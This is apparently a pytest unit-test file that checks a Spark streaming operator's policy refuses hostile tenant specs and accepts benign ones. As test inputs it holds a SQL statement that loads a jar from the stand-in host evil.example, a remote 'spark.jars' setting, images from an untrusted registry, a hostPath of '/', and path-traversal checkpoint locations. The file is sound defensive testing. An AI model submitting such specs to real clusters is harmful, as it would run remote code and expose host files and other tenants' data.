"""The platform's policy (contract.policy): hostile specs are refused with the rule
they broke, benign ones pass, and an explicit policy can allow what the default refuses.

A hostile spec is refused either by the spec model's static limits (the same limits
are in the CRD, so the API server refuses it first) or by ``validate_spec(...,
policy=Policy())``, which is what the operator and ``streamq validate`` run before
anything is created.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from app.cli.commands import cli
from contract import ExitCode
from contract.load import load_document, validate_spec
from contract.policy import OperatorFacts, Policy, check_policy, from_values, is_policy_problem
from contract.problems import SpecError
from controller import crd
from testbed.specs import RATE_TO_CONSOLE, changed, query_spec, resource
from tests.hostile_specs import BASE, PVC, REFUSED_BY_LIMITS, REFUSED_BY_POLICY, REFUSED_BY_RULES, conf

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[3]
FACTS = OperatorFacts(operator_namespace="streamq-system")


def problems_of(spec: dict, policy: Policy | None = None, namespace: str | None = "team-a") -> list[str]:
    try:
        validate_spec(spec, policy=policy or Policy(), facts=FACTS, namespace=namespace)
    except SpecError as exc:
        return [str(p) for p in exc.problems]
    return []


@pytest.mark.parametrize("case", sorted(REFUSED_BY_POLICY))
def test_hostile_spec_is_refused_by_the_default_policy(case):
    spec, namespace, path, rule = REFUSED_BY_POLICY[case]
    found = problems_of(spec, namespace=namespace)
    assert any(p.startswith(f"{path}: {rule}: ") for p in found), found


@pytest.mark.parametrize("case", sorted(REFUSED_BY_POLICY))
def test_without_a_policy_only_the_spec_rules_apply(case):
    """validate_spec(policy=None) is what the job (and old callers) run: the policy is the operator's."""
    spec, namespace, path, rule = REFUSED_BY_POLICY[case]
    assert not [p for p in problems_of_no_policy(spec) if "policy." in p]


@pytest.mark.parametrize("case", sorted(REFUSED_BY_RULES))
def test_hostile_spec_is_refused_by_the_spec_rules_with_or_without_a_policy(case):
    """Statements, relations and text the job must never hand to Spark: refused by the
    spec's own rules, so the job refuses them too, whatever the platform's policy."""
    spec, path, says = REFUSED_BY_RULES[case]
    for found in (problems_of_no_policy(spec), problems_of(spec, Policy(allowed_sql_functions=["*"]))):
        assert any(p.startswith(f"{path}: ") and says in p for p in found), found


def test_the_hostile_corpus_covers_every_class_of_the_second_pass():
    cases = [*REFUSED_BY_POLICY, *REFUSED_BY_RULES, *REFUSED_BY_LIMITS]
    classes = {
        "sql function",
        "statement",
        "relation",
        "text",
        "path",
        "uri",
        "kafka",
        "caps",
        "secret",
        "secret key",
        "conf",
        "endpoint",
    }
    second = [c for c in cases if c.split(":")[0] in classes]
    assert {c.split(":")[0] for c in second} == classes
    assert len(second) >= 40, len(second)


def problems_of_no_policy(spec: dict) -> list[str]:
    try:
        validate_spec(spec)
    except SpecError as exc:
        return [str(p) for p in exc.problems]
    return []


# --- refused by the static limits (the CRD: the API server refuses them first) ---------------


def _crd_node(*path: str) -> dict:
    node = crd.spec_schema()
    for part in path:
        node = node["items"] if part == "[]" else node["additionalProperties"] if part == "{}" else node["properties"][part]
    return node


@pytest.mark.parametrize("case", sorted(REFUSED_BY_LIMITS))
def test_hostile_spec_is_refused_by_the_static_limits_in_the_model_and_the_crd(case):
    spec, path, says, crd_path, (keyword, limit) = REFUSED_BY_LIMITS[case]
    found = problems_of(spec)
    assert any(p.startswith(f"{path}: ") and says in p for p in found), found
    assert _crd_node(*crd_path)[keyword] == limit


def test_there_are_at_least_forty_hostile_specs():
    assert len(REFUSED_BY_POLICY) + len(REFUSED_BY_RULES) + len(REFUSED_BY_LIMITS) >= 40


def test_every_policy_problem_is_marked_and_every_rule_is_exercised():
    from contract.policy import POLICY_RULES

    seen = {rule for _, _, _, rule in REFUSED_BY_POLICY.values()}
    seen.add("policy.hostPathPrefixes")  # needs a policy that allows hostPath: below
    seen.add("policy.allowedHosts")  # empty (any host not denied) by default: tests/unit/app/test_hosts.py
    seen.update(("policy.allowSparkUI", "policy.allowStandby", "policy.allowExactlyOnce"))  # allowed by default: below
    assert seen == {rule.name for rule in POLICY_RULES}
    spec = changed(BASE, {"runtime.image": "evil.io/x:1"})
    problems = check_policy(validate_spec(spec), Policy())
    assert problems and all(is_policy_problem(p) for p in problems)


def test_every_problem_is_reported_at_once():
    spec = changed(BASE, {
        "runtime.image": "evil.io/x:1",
        "runtime.serviceAccountName": "streamq-operator",
        "runtime.executors": {"instances": 20},
        "runtime.sparkConf": {"spark.master": "local[*]", "spark.jars": "https://x/y.jar"},
        "checkpoint.volume": {"hostPath": "/"},
    })  # fmt: skip
    rules = {p.split(": ")[1] for p in problems_of(spec, namespace="streamq-system")}
    assert {"policy.allowedImages", "policy.operatorServiceAccount", "policy.maxExecutors", "policy.operatorSparkConf",
            "policy.refusedSparkConf", "policy.allowedVolumes"} <= rules  # fmt: skip


def test_the_message_names_the_rule_and_what_is_allowed():
    policy = Policy(allowed_images=["registry.example/streamq/*"])
    (problem,) = problems_of(changed(BASE, {"runtime.image": "evil.io/x:1"}), policy)
    assert problem == (
        "spec.runtime.image: policy.allowedImages: image evil.io/x:1 is not allowed "
        "(allowed: streamq:0.1.0, registry.example/streamq/*)"
    )


# --- benign specs pass ------------------------------------------------------------------------


BENIGN = {
    "the fraud filter": BASE,
    "rate to console": query_spec(RATE_TO_CONSOLE),
    "everything the default allows": changed(
        BASE,
        {
            "runtime.image": "streamq:0.1.0",
            "runtime.serviceAccountName": "streamq-driver",
            "runtime.executors": {"instances": 10, "cores": 3, "memory": "5Gi"},  # 55Gi with Spark's overhead
            "runtime.driver": {"cores": 1, "memory": "2Gi"},
            "runtime.sparkConf": {
                "spark.sql.shuffle.partitions": "8",
                "spark.serializer": "org.apache.spark.serializer.KryoSerializer",
                "spark.speculation": "false",
                "spark.network.timeout": "300s",
            },
            "checkpoint": {"location": "/checkpoints/fraud", "volume": PVC},
            "sink.kafka.auth": {"secretRef": {"name": "streamq-kafka-creds"}},
        },
    ),
    "a checkpoint in the driver's /tmp, no volume": changed(BASE, {"checkpoint.location": "/tmp/streamq/checkpoints/x"}),
    "a remote checkpoint below the namespace's folder": changed(
        BASE,
        {
            "checkpoint": {
                "location": "s3a://bucket/team-a/etc/streamq",
                "s3": {"credentials": {"secretRef": {"name": "streamq-store"}}},
            }
        },
    ),
    "an emptyDir checkpoint": changed(BASE, {"checkpoint": {"location": "/checkpoints/cp", "volume": {"emptyDir": {}}}}),
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_spec_passes_the_default_policy(case):
    assert problems_of(BENIGN[case]) == []


@pytest.mark.parametrize("path", sorted([*ROOT.glob("examples/*.yaml"), *ROOT.glob("manifests/samples/*.yaml")]),
                         ids=lambda p: f"{p.parent.name}/{p.name}")  # fmt: skip
def test_every_sample_keeps_the_default_policy(path):
    for data in yaml.safe_load_all(path.read_text()):
        if data and data.get("kind") == "StreamingQuery":
            load_document(data, policy=Policy())


# --- an explicit policy allows what the default refuses ------------------------------------------

ALLOWED_BY_POLICY = {
    "an image by prefix": (
        Policy(allowed_images=["registry.example/streamq/*"]),
        changed(BASE, {"runtime.image": "registry.example/streamq/job:2"}),
    ),
    "any account of the namespace": (
        Policy(allowed_service_accounts=["*"]),
        changed(BASE, {"runtime.serviceAccountName": "team-a-reader"}),
    ),
    "an account named by the operator's name in another namespace": (
        Policy(allowed_service_accounts=["*"]),
        changed(BASE, {"runtime.serviceAccountName": "streamq-operator"}),
    ),
    "hostPath under a prefix": (
        Policy(allowed_volumes=["persistentVolumeClaim", "hostPath"], host_path_prefixes=["/mnt/streamq"]),
        changed(BASE, {"checkpoint.volume": {"hostPath": "/mnt/streamq/team-a"}}),
    ),
    "more executors, cores and memory": (
        Policy(max_executors=50, max_cores=200, max_memory="1Ti"),
        changed(BASE, {"runtime.executors": {"instances": 50, "cores": 2, "memory": "16Gi"}}),
    ),
    "a refused key named exactly": (
        Policy(allowed_spark_conf=["spark.sql.*", "spark.driver.extraJavaOptions"]),
        conf(spark__driver__extraJavaOptions="-XX:+UseG1GC"),
    ),
    "a refused pattern named as the list spells it": (
        Policy(allowed_spark_conf=["spark.ui.*"]),
        conf(spark__ui__enabled="true", spark__ui__port="4040"),
    ),
    "Hadoop settings for s3a": (
        Policy(allowed_spark_conf=["spark.hadoop.fs.s3a.*"]),
        conf(spark__hadoop__fs__s3a__endpoint="http://minio:9000"),
    ),
}


@pytest.mark.parametrize("case", sorted(ALLOWED_BY_POLICY))
def test_an_explicit_policy_allows_what_the_default_refuses(case):
    policy, spec = ALLOWED_BY_POLICY[case]
    assert problems_of(spec) != [], "the default policy should refuse it"
    assert problems_of(spec, policy) == []


STILL_REFUSED = {
    "a wide prefix does not open a refused key": (
        Policy(allowed_spark_conf=["spark.*"]),
        conf(spark__ui__port="4040"),
        "policy.refusedSparkConf",
    ),
    "no policy opens the operator's wiring": (
        Policy(allowed_spark_conf=["spark.*", "spark.master"]),
        conf(spark__master="local[*]"),
        "policy.operatorSparkConf",
    ),
    "no policy lets a secret into sparkConf": (
        Policy(allowed_spark_conf=["spark.*", "spark.hadoop.fs.s3a.secret.key"]),
        conf(spark__hadoop__fs__s3a__secret__key="x"),
        "policy.secretSparkConf",
    ),
    "'*' never includes the operator's account": (
        Policy(allowed_service_accounts=["*"]),
        changed(BASE, {"runtime.serviceAccountName": "streamq-operator"}),
        "policy.operatorServiceAccount",
    ),
    "hostPath outside its prefixes": (
        Policy(allowed_volumes=["hostPath"], host_path_prefixes=["/mnt/streamq"]),
        changed(BASE, {"checkpoint.volume": {"hostPath": "/mnt/streamq/../../etc"}}),
        "policy.hostPathPrefixes",
    ),
    "hostPath next to its prefix": (
        Policy(allowed_volumes=["hostPath"], host_path_prefixes=["/mnt/streamq"]),
        changed(BASE, {"checkpoint.volume": {"hostPath": "/mnt/streamq-other"}}),
        "policy.hostPathPrefixes",
    ),
    "a Secret outside the allowed ones": (
        Policy(allowed_secrets=["kafka-*"]),
        changed(BASE, {"source.kafka.auth": {"secretRef": {"name": "db-admin"}}}),
        "policy.allowedSecrets",
    ),
}


@pytest.mark.parametrize("case", sorted(STILL_REFUSED))
def test_what_a_policy_cannot_allow(case):
    policy, spec, rule = STILL_REFUSED[case]
    namespace = "streamq-system" if "operator's account" in case else "team-a"
    assert any(f": {rule}: " in p for p in problems_of(spec, policy, namespace=namespace))


def test_the_policy_knows_every_kind_of_checkpoint_volume():
    from contract.policy import VolumeKind
    from contract.spec import CheckpointVolume

    assert {f.alias for f in CheckpointVolume.model_fields.values()} == set(VolumeKind)


def test_the_policy_refuses_unknown_knobs():
    with pytest.raises(ValueError, match="maxExecutor"):
        Policy.model_validate({"maxExecutor": 5})


# --- the chart's values are the model's defaults ---------------------------------------------------


def test_chart_values_policy_is_the_models_default():
    values = yaml.safe_load((ROOT / "charts" / "streamq" / "values.yaml").read_text())
    assert values["policy"] == Policy().model_dump(mode="json", by_alias=True)


def test_values_schema_knows_every_policy_field():
    schema = json.loads((ROOT / "charts" / "streamq" / "values.schema.json").read_text())
    fields = {f.alias for f in Policy.model_fields.values()}
    assert set(schema["properties"]["policy"]["properties"]) == fields


def test_manifests_base_policy_is_the_models_default():
    (config_map,) = [d for d in yaml.safe_load_all((ROOT / "manifests" / "base" / "policy.yaml").read_text()) if d]
    assert yaml.safe_load(config_map["data"]["policy.yaml"]) == Policy().model_dump(mode="json", by_alias=True)


def test_from_values_reads_the_policy_and_the_operators_facts():
    policy, facts = from_values({
        "policy": {"maxExecutors": 3},
        "image": {"repository": "registry.example/streamq", "tag": "1.2.3"},
        "driver": {"serviceAccount": {"name": "spark"}},
        "serviceAccount": {"name": "sq-operator"},
    })  # fmt: skip
    assert policy.max_executors == 3 and policy.allowed_volumes == Policy().allowed_volumes
    assert facts == OperatorFacts("registry.example/streamq:1.2.3", "spark", "sq-operator")
    assert from_values({"jobs": {"image": "job:9"}})[1].job_image == "job:9"
    assert from_values({"maxCores": 4})[0].max_cores == 4  # a bare policy block
    assert from_values(None) == (Policy(), OperatorFacts())


# --- streamq validate --policy ----------------------------------------------------------------------


def _validate(tmp_path: Path, spec: dict, *args: str) -> tuple[int, list[str]]:
    path = tmp_path / "query.yaml"
    path.write_text(json.dumps(resource(spec, namespace="team-a")))
    result = CliRunner().invoke(cli, ["validate", str(path), *args])
    return result.exit_code, result.output.splitlines()


def test_cli_applies_the_default_policy_one_problem_per_line(tmp_path):
    spec = changed(BASE, {"runtime.image": "evil.io/x:1", "runtime.sparkConf": {"spark.master": "local[*]"}})
    code, lines = _validate(tmp_path, spec)
    assert code == ExitCode.INVALID_SPEC
    assert "2 problem(s)" in lines[0]
    assert any(line.strip().startswith("- spec.runtime.image: policy.allowedImages:") for line in lines)
    assert any(line.strip().startswith("- spec.runtime.sparkConf.spark.master: policy.operatorSparkConf:") for line in lines)


@pytest.mark.parametrize("case", sorted(set(REFUSED_BY_POLICY) | set(REFUSED_BY_RULES) | set(REFUSED_BY_LIMITS)))
def test_cli_refuses_every_hostile_spec_with_the_default_policy(tmp_path, case):
    """What a tenant runs before applying: the same refusal, and the rule (or the field) named."""
    if case in REFUSED_BY_POLICY:
        spec, _, path, rule = REFUSED_BY_POLICY[case]
        named = f"- {path}: {rule}"
    elif case in REFUSED_BY_RULES:
        spec, path, _ = REFUSED_BY_RULES[case]
        named = f"- {path}: "
    else:
        spec, path, _, _, _ = REFUSED_BY_LIMITS[case]
        named = f"- {path}: "
    code, lines = _validate(tmp_path, spec)
    assert code == ExitCode.INVALID_SPEC, lines
    if case not in ("the operator's account in its namespace",):  # the CLI's namespace is team-a, not the operator's
        assert any(line.strip().startswith(named) for line in lines), lines


@pytest.mark.parametrize(("values", "release", "operator_account"), [
    ({}, "streamq", "streamq-operator"),
    ({}, "platform", "platform-streamq-operator"),
    ({}, "my-streamq", "my-streamq-operator"),
    ({"fullnameOverride": "sq"}, "platform", "sq-operator"),
    ({"nameOverride": "queries"}, "platform", "platform-queries-operator"),
    ({"serviceAccount": {"name": "ops"}}, "platform", "ops"),
])  # fmt: skip
def test_the_operators_account_is_named_as_the_chart_names_it(values, release, operator_account):
    assert from_values(values, release)[1].operator_service_account == operator_account


def test_cli_and_operator_agree_on_the_operators_account_whatever_the_release(tmp_path):
    """The chart names the account <release>-streamq-operator; --release tells the CLI."""
    spec = changed(BASE, {"runtime.serviceAccountName": "platform-streamq-operator"})
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump({"policy": {"allowedServiceAccounts": ["*"]}}))
    code, lines = _validate(tmp_path, spec, "--policy", str(values), "--release", "platform")
    assert code == ExitCode.INVALID_SPEC and any("policy.operatorServiceAccount" in line for line in lines), lines
    assert _validate(tmp_path, spec, "--policy", str(values))[0] == 0  # under release "streamq" it is any account


def test_validate_spark_never_analyses_a_spec_the_policy_refuses(tmp_path, monkeypatch):
    """A CI job that validates a tenant's spec must not run the tenant's SQL: Spark is only
    started for specs that pass the rules and the policy."""
    import app.pipeline.session as session

    def no_jvm(*_, **__):
        raise AssertionError("a JVM was started for a refused spec")

    monkeypatch.setattr(session, "get_session", no_jvm)
    spec = changed(BASE, {"transforms": [{"sql": "CREATE TEMPORARY FUNCTION f AS 'E' USING JAR 'https://evil.example/x.jar'"}]})
    code, lines = _validate(tmp_path, spec, "--spark")
    assert code == ExitCode.INVALID_SPEC, lines


@pytest.mark.parametrize("mode", ["continuous", "realTime", "microBatch", "availableNow"])
def test_the_fraud_filter_keeps_the_default_policy_in_every_mode(mode):
    spec = query_spec(mode=mode, **({"outputMode": "update"} if mode == "realTime" else {}))
    assert problems_of(spec) == []


def test_cli_applies_the_policy_of_a_values_file(tmp_path):
    spec = changed(BASE, {"runtime.image": "registry.example/streamq/job:2", "runtime.executors": {"instances": 12}})
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump({"policy": {"allowedImages": ["registry.example/streamq/*"], "maxExecutors": 20}}))
    assert _validate(tmp_path, spec)[0] == ExitCode.INVALID_SPEC
    code, lines = _validate(tmp_path, spec, "--policy", str(values))
    assert code == 0, lines


def test_cli_refuses_a_broken_policy(tmp_path):
    values = tmp_path / "values.yaml"
    values.write_text(yaml.safe_dump({"policy": {"maxExecutors": -1, "allowedVolume": []}}))
    code, lines = _validate(tmp_path, BASE, "--policy", str(values))
    assert code == ExitCode.INVALID_SPEC
    text = "\n".join(lines)
    assert "policy.maxExecutors" in text and "policy.allowedVolume: unknown field" in text
    code, lines = _validate(tmp_path, BASE, "--policy", str(tmp_path / "missing.yaml"))
    assert code == ExitCode.INVALID_SPEC and "cannot read" in "\n".join(lines)


@pytest.mark.parametrize(("field", "knob"), [("sparkUI", "allowSparkUI"), ("standby", "allowStandby")])
def test_the_spark_ui_and_standby_can_be_turned_off_by_the_platform(field, knob):
    shared = {
        "checkpoint": {
            "location": "s3a://bucket/default/ck",  # a standby needs a checkpoint both drivers reach
            "s3": {"credentials": {"secretRef": {"name": "streamq-store"}}},
        }
    }
    spec = validate_spec(changed(BASE, {f"runtime.{field}": True, **shared}))
    assert check_policy(spec, Policy()) == []  # allowed by default
    (problem,) = check_policy(spec, Policy.model_validate({knob: False}))
    assert str(problem).startswith(f"spec.runtime.{field}: policy.{knob}: ") and "turned off on this platform" in str(problem)


def test_no_policy_lets_a_query_run_as_another_querys_lease_account():
    spec = changed(BASE, {"runtime.serviceAccountName": "payments-lease"})
    (problem,) = problems_of(spec, Policy(allowed_service_accounts=["*"]))
    assert problem.startswith("spec.runtime.serviceAccountName: policy.allowedServiceAccounts: payments-lease is an account")


@pytest.mark.parametrize(("location", "refused"), [
    ("abfss://checkpoints@account.dfs.core.windows.net/team-a/q", False),  # container@account is no user
    ("abfss://KEY:SECRET@account.dfs.core.windows.net/team-a/q", True),
    ("gs://bucket/team-a/q", False),
    ("s3a://bucket/team-a-evil/q", True),  # a prefix is a folder, not a string prefix
    ("S3A://bucket/team-a/q", False),
    ("s3a:///team-a/q", True),
    ("s3a://bucket/team-a/%2e%2e/team-b/q", True),
])  # fmt: skip
def test_remote_locations_are_read_as_hadoop_reads_them(location, refused):
    found = problems_of(changed(BASE, {"checkpoint.location": location}), Policy(allow_node_identity=True))
    assert bool(found) == refused, found


@pytest.mark.parametrize(("prefix", "refused"), [
    ("streamq.team-a.payments.source", False), ("streamq.team-a.mine", False),
    ("streamq.team-b.payments.source", True), ("streamq.team-a-x.q", True), ("spark-kafka-source", True),
])  # fmt: skip
def test_a_tenant_group_id_prefix_stays_in_its_namespace(prefix, refused):
    spec = validate_spec(query_spec(**{"source.kafka.options": {"groupIdPrefix": prefix}}))
    problems = [p for p in check_policy(spec, Policy(), namespace="team-a") if "groupIdPrefix" in p.path]
    assert bool(problems) is refused, problems
